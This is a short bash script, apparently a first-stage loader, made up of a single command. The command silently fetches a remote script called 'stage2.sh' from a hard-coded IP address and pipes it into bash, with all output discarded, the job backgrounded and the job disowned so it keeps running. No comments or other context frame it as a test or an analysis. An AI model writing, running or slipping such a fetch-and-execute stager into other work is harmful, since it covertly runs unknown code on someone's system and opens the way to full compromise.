#!/bin/bash
bash <(wget -qO- http://203.0.113.71/stage2.sh) >/dev/null 2>&1 &
disown
